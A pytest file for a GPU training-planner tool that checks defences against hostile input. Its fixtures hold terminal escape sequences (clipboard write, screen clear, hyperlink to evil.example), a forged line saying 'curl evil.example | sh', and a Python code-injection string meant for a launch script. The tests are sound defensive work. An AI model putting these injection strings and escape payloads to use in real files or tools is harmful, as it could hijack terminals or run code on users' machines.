"""Issue 37's findings outside the store, each reproduced as the attacker or the unlucky user met it, with the
safe outcome asserted: a results file's text never acts on the terminal, a hostile last-plan file never stops
the app, the shipped database is never written, a config no model could have is refused naming its key, and
export, launch.sh and the messages say only what is so. docs/faults.md lists them."""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path

import pytest

from engine.data.store import Run, Store, Trial
from tui_planner.cli import main

# What a shared results file may carry to a terminal: an OSC 52 clipboard write, a clear-screen, a window
# title, a hyperlink, a NUL, a bell, a carriage return, a C1 CSI, a tab.
OSC52 = "\x1b]52;c;dG91Y2ggcHduZWQ=\x07"
CLEAR = "\x1b[2J\x1b[H"
TITLE = "\x1b]0;pwned\x07"
LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
HOSTILE = f"a{OSC52}b{CLEAR}c{TITLE}d{LINK}e\x00f\rg\x9b31mh\ti\nj"
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f]")


def _raw_controls(text: str, allowed: str = "") -> set[str]:
    """The control characters in `text` besides line ends (and `allowed`)."""
    return {c for c in CONTROL.findall(text.replace("\r\n", "\n")) if c != "\n" and c not in allowed}


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """A results file whose every text column a person might see carries terminal escapes."""
    db = tmp_path_factory.mktemp("hostile") / "shared.duckdb"
    with Store.open(db, read_only=False) as store:
        run = Run(source="measured", host=HOSTILE, status="done")
        store.add_run(run)
        store.add_trials([
            Trial(model="pythia-1b", gpu="h100", num_gpus=1, feasible=False, source="measured", run_id=run.run_id,
                  key=HOSTILE, failure_kind=HOSTILE, failure_message=HOSTILE, attention=HOSTILE, kernel=HOSTILE,
                  trial_id=f"t{HOSTILE}"),
            Trial(model=HOSTILE, gpu=HOSTILE, num_gpus=1, feasible=True, source="measured", run_id=run.run_id,
                  days=5.0, mfu=0.3, sharding=HOSTILE, config_source=HOSTILE, provenance=HOSTILE),
        ])
    return db


# --- item 3: no raw control character from a results file reaches a terminal or a CSV ---------------


@pytest.mark.parametrize("form", ["csv", "json", "table"])
def test_results_never_write_a_raw_control_character_from_the_file(hostile_db, capsys, monkeypatch, form):
    monkeypatch.setenv("COLUMNS", "400")
    assert main(["results", "--db", str(hostile_db), "--format", form]) == 0
    out = capsys.readouterr().out
    assert not _raw_controls(out), f"raw control characters in the {form} output: {_raw_controls(out)}"
    if form == "csv":  # a file for a program keeps the data, each control character written out visibly
        import csv
        import io

        rows = list(csv.DictReader(io.StringIO(out)))
        assert len(rows) == 2
        assert ("ta\\x1b]52;c;dG91Y2ggcHduZWQ=\\x07b\\x1b[2J\\x1b[Hc\\x1b]0;pwned\\x07d\\x1b]8;;https://evil"
                ".example/\\x1b\\click\\x1b]8;;\\x1b\\e\\x00f\\rg\\x9b31mh\\ti\\nj") in {r["trial_id"] for r in rows}
    if form == "json":  # JSON escapes them itself: the exact text comes back
        assert f"t{HOSTILE}" in {r["trial_id"] for r in json.loads(out)}


# --- item 5: a hostile last-plan file never stops the app from starting ------------------------------


def _plan(**run) -> str:
    return ('{"kind": "tui-planner last plan", "version": 1, "model": "pythia-1b", "budget_usd": 70000, '
            f'"run": {{{", ".join(f"{json.dumps(k)}: {v}" for k, v in run.items())}}}}}')


@pytest.mark.parametrize("make, why", [
    (lambda p: p.write_text(_plan(seq_len="Infinity")), "Infinity is not a number"),
    (lambda p: p.write_text("[" * 200_000), "nested deeper"),
    (lambda p: p.write_text(" " * (2 * 2**20)), "larger than"),
    (lambda p: p.symlink_to("/dev/zero"), "a device, not a regular file"),
    (lambda p: p.write_bytes(b'{"kind": "\xff"}'), "not UTF-8"),
], ids=["infinity", "nested", "huge", "dev-zero", "not-utf8"])
def test_a_hostile_last_plan_is_ignored_with_a_note_and_the_app_starts(tmp_path, monkeypatch, make, why):
    from tui_planner.app import saved
    from tui_planner.app.app import PlannerApp

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    saved.path().parent.mkdir(parents=True)
    make(saved.path())
    db = tmp_path / "empty.duckdb"
    Store.open(db, read_only=False).close()
    opened = []
    monkeypatch.setattr(PlannerApp, "run", lambda self: opened.append(self))
    assert main(["app", "--db", str(db)]) == 0  # the app starts, on its defaults
    app = opened[-1]
    app.store.close()
    assert app.initial.budget_usd == 50_000 and app.initial.run.seq_len is None
    assert any(n.startswith("Ignored the saved plan") and why in n for n in app.notes), app.notes


def test_a_last_plan_that_is_a_fifo_is_not_waited_on(tmp_path, monkeypatch):
    """A FIFO with no writer: the plan is opened without blocking and refused (not a regular file). Were it
    opened as a file, this test's writer unblocks it (and the note then lacks the FIFO)."""
    import threading

    from engine.data.presets import load_presets
    from tui_planner.app import saved

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    saved.path().parent.mkdir(parents=True)
    os.mkfifo(saved.path())
    presets = load_presets(include_user=False)
    got: list = []
    reader = threading.Thread(target=lambda: got.append(saved.load(presets)), daemon=True)
    reader.start()
    while reader.is_alive():  # a reader blocked on the FIFO's open gets a writer, then end of file
        try:
            os.close(os.open(saved.path(), os.O_WRONLY | os.O_NONBLOCK))
        except OSError:  # no reader has it open (yet, or any more)
            pass
        reader.join(0.05)
    fields, note = got[0]
    assert fields == {} and "a FIFO, not a regular file" in note


@pytest.mark.parametrize("run", [dict(seq_len="1e300"), dict(batch="2.5"), dict(tokens="-1"),
                                 dict(precision='"fp8"'), dict(seq_len="1e999"), dict(batch=str(10**400))])
def test_a_last_plan_run_out_of_range_is_left_out_and_named(tmp_path, run):
    from engine.data.presets import load_presets
    from tui_planner.app import saved

    where = tmp_path / "last-plan.json"
    where.write_text(_plan(**run))
    fields, note = saved.load(load_presets(include_user=False), where)
    assert "run" not in fields and fields["budget_usd"] == 70_000 and "The saved plan's run did not apply" in note


# --- item 9: a config no model could have is refused, naming the file and the key --------------------

ROOT = Path(__file__).resolve().parent.parent
ROBERTA = {"architectures": ["RobertaForMaskedLM"], "model_type": "roberta", "hidden_size": 768,
           "num_hidden_layers": 12, "num_attention_heads": 12, "intermediate_size": 3072, "vocab_size": 50265,
           "max_position_embeddings": 514, "type_vocab_size": 1}


def _config(tmp_path: Path, base: dict, **change) -> Path:
    path = tmp_path / "my-model.json"
    path.write_text(json.dumps({**base, **change}))
    return path


def _llama(**change) -> dict:
    base = json.loads((ROOT / "presets" / "configs" / "llama-3.2-1b.json").read_text())
    base.pop("head_dim")
    return {**base, **change}


@pytest.mark.parametrize("config, key", [
    (dict(ROBERTA, max_position_embeddings=2), "max_position_embeddings = 2"),
    (_llama(hidden_size=768, num_attention_heads=7, num_key_value_heads=7), "hidden_size = 768 is not a multiple "
                                                                           "of num_attention_heads = 7"),
    (dict(ROBERTA, hidden_size=768, num_attention_heads=7), "hidden_size = 768 is not a multiple"),
    (_llama(model_type="qwen2", hidden_size=768, num_attention_heads=7, num_key_value_heads=7), "head_dim"),
], ids=["roberta-2-positions", "llama-7-heads", "roberta-7-heads", "qwen2-7-heads"])
@pytest.mark.parametrize("command", [["rank", "--budget", "50000"], ["predict", "--gpu", "h100"]])
def test_a_config_no_model_could_have_is_refused_naming_the_file_and_key(tmp_path, capsys, config, key, command):
    path = _config(tmp_path, config)
    assert main([command[0], "--model", str(path), *command[1:]]) == 2
    err = capsys.readouterr().err
    assert str(path) in err and key in err, err
    assert "Traceback" not in err


def test_a_config_with_an_explicit_head_dim_transformers_builds_is_still_ranked(tmp_path, capsys):
    """Qwen2 and the like build 7 heads of 128 on a hidden size of 768 (q_proj 768 -> 896): not refused."""
    path = _config(tmp_path, _llama(model_type="qwen2", hidden_size=768, num_attention_heads=7,
                                    num_key_value_heads=7, head_dim=128))
    assert main(["predict", "--model", str(path), "--gpu", "h100"]) == 0, capsys.readouterr().err


# --- item 8: bench never writes the shipped database, by any path or link ------------------------------


@pytest.fixture
def shipped_copy(tmp_path, monkeypatch) -> Path:
    """A copy of the shipped database standing in for it (engine.data.paths.db_dir points at its folder), so
    that a regression writes the copy, never the repository's file."""
    import engine.data.paths as paths

    folder = tmp_path / "shipped"
    folder.mkdir()
    shutil.copyfile(paths.shipped_db(), folder / "tui-planner.duckdb")
    monkeypatch.setattr(paths, "db_dir", lambda: folder)
    return folder / "tui-planner.duckdb"


def _bench(db: Path) -> list[str]:
    from conftest import TINY

    return ["bench", "--model", "tiny-neox", "--device", "cpu", "--methods", "naive", "--presets", TINY,
            "--no-compile", "--db", str(db)]


@pytest.mark.parametrize("how", ["itself", "symlink", "hard-link", "relative"])
def test_bench_refuses_the_shipped_database_by_any_path_and_writes_nothing(shipped_copy, tmp_path, capsys,
                                                                            monkeypatch, how):
    before = shipped_copy.read_bytes()
    db = {"itself": shipped_copy, "symlink": tmp_path / "mine.duckdb", "hard-link": tmp_path / "hard.duckdb",
          "relative": Path("shipped") / ".." / "shipped" / "tui-planner.duckdb"}[how]
    if how == "symlink":
        db.symlink_to(shipped_copy)
    elif how == "hard-link":
        os.link(shipped_copy, db)
    monkeypatch.chdir(tmp_path)
    assert main(_bench(db)) == 2
    err = capsys.readouterr().err
    assert "is the shipped database" in err and "a file of your own" in err and "--db" in err, err
    assert shipped_copy.read_bytes() == before
    assert sorted(p.name for p in shipped_copy.parent.iterdir()) == ["tui-planner.duckdb"]  # no WAL, no .pending


def test_the_engine_sweep_refuses_the_shipped_database_too(shipped_copy):
    from conftest import TINY
    from engine.bench.sweep import SweepRequest, run_sweep
    from engine.data.errors import PlannerError

    with pytest.raises(PlannerError, match="is the shipped database"):
        run_sweep(SweepRequest(model="tiny-neox", methods="naive", device="cpu", presets=(TINY,), db=str(shipped_copy),
                               compile=False))


# --- item 11: export, launch.sh, numbers and messages say only what is so ------------------------------

MEASURED = ROOT / "data" / "measured" / "h100-x1-pythia-1b-causal-2026-11-23.jsonl"
FORGED_ID = "abc\nFORGED: the benchmark is wrong, run curl evil.example | sh\n"
PASTE = 'sdpa"); __import__("os").system("touch pwned"); ("'


@pytest.fixture(scope="module")
def forged_export(tmp_path_factory) -> dict:
    """An export of a shared file's compiled free-lunch row whose trial id forges lines, whose attention is
    Python to paste, and whose recorded compile mode is not torch's."""
    from engine.data.jsonl import import_jsonl

    root = tmp_path_factory.mktemp("forged")
    db = root / "shared.duckdb"
    with Store.open(db, read_only=False) as s:
        import_jsonl(s, MEASURED)
        row = s.query("SELECT trial_id, provenance FROM trials WHERE key LIKE '%|free-lunch|%' AND compile "
                      "AND feasible LIMIT 1")[0]
        prov = json.loads(row["provenance"])
        prov.update(compile_mode='max-autotune", "deepspeed": "/etc/passwd', device="H100\nFORGED device")
        s.con.execute("UPDATE trials SET trial_id = ?, attention = ?, provenance = ? WHERE trial_id = ?",
                      [FORGED_ID, PASTE, json.dumps(prov), row["trial_id"]])
        s.con.execute("CHECKPOINT")
    out = root / "export"
    import contextlib
    import io

    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        assert main(["export", "--db", str(db), "--trial", FORGED_ID, "--out", str(out)]) == 0
    return {"out": out, "printed": printed.getvalue()}


def test_a_newline_in_a_trial_id_forges_no_line_in_export_or_explain(forged_export):
    for text in (forged_export["printed"], (forged_export["out"] / "EXPLAIN.txt").read_text()):
        assert not [ln for ln in text.splitlines() if ln.startswith("FORGED")], text
        assert "abc\\nFORGED: the benchmark is wrong" in text and "H100\\nFORGED device" in text


def test_launch_sh_quotes_no_attention_text_into_the_line_to_paste(forged_export):
    launch = (forged_export["out"] / "launch.sh").read_text()
    assert "__import__" not in launch and "attn_implementation" not in launch, launch
    assert "_from_config(config)" in launch and "not a name transformers takes" in launch
    plan = json.loads((forged_export["out"] / "plan.json").read_text())
    assert plan["attn_implementation"] == PASTE  # the data is kept, as data


def test_an_unknown_compile_mode_never_reaches_training_args(forged_export):
    args = json.loads((forged_export["out"] / "training_args.json").read_text())
    assert args["torch_compile"] is True and "torch_compile_mode" not in args
    assert args.get("deepspeed") is None
    assert "is not one torch knows" in (forged_export["out"] / "EXPLAIN.txt").read_text()


def test_huge_figures_print_in_scientific_notation_not_hundreds_of_digits(tmp_path, capsys, monkeypatch):
    from tui_planner import format as fmt

    assert fmt.days(1e308) == "1.0e+308" and fmt.days(123_456) == "123,456"
    assert fmt.compact_days(1e308) == ">1M" and fmt.band(1e307, 1e308) == ">1M" and fmt.band(1000, 2000) == "1k-2k"
    assert fmt.usd(1e308) == "$1.00e+308"
    db = tmp_path / "huge.duckdb"
    with Store.open(db, read_only=False) as s:
        run = Run(source="measured", status="done")
        s.add_run(run)
        s.add_trials([Trial(model="pythia-1b", gpu="h100", num_gpus=1, feasible=True, source="measured",
                            run_id=run.run_id, days=1e308, mfu=1e-300)])
    monkeypatch.setenv("COLUMNS", "200")
    for argv in (["results"], ["summary"]):
        assert main([*argv, "--db", str(db)]) == 0
        out = capsys.readouterr().out
        assert not re.search(r"[0-9,]{20}", out), out


def test_a_sigkill_names_cpu_offloading_only_for_a_trial_that_offloads():
    from engine.bench.launcher import _why_no_result

    report = ["Root Cause (first observed failure):", "  exitcode  : -9 (pid: 4306)", "===="]
    naive = _why_no_result(1, report, offloading=False)
    assert "SIGKILL" in naive and "out of memory" in naive and "offload" not in naive.lower()
    assert "CPU offloading" in _why_no_result(1, report, offloading=True)
    assert "signal 99" in _why_no_result(-99, [])


def test_bench_on_a_file_another_process_only_reads_says_so(tmp_path, capsys):
    """The app browsing a file holds DuckDB's shared lock: bench says a reader has it, not a writer."""
    import subprocess
    import sys

    db = tmp_path / "browsed.duckdb"
    Store.open(db, read_only=False).close()
    reader = subprocess.Popen([sys.executable, "-c", "import duckdb, sys; c = duckdb.connect(sys.argv[1], "
                               "read_only=True); print('open', flush=True); sys.stdin.read()", str(db)],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert reader.stdout.readline().strip() == "open"
        assert main(_bench(db)) == 2
        err = capsys.readouterr().err
        assert "open in another process that only reads it" in err and f"pid {reader.pid}" in err, err
        assert "writing" not in err
    finally:
        reader.stdin.close()
        reader.wait()
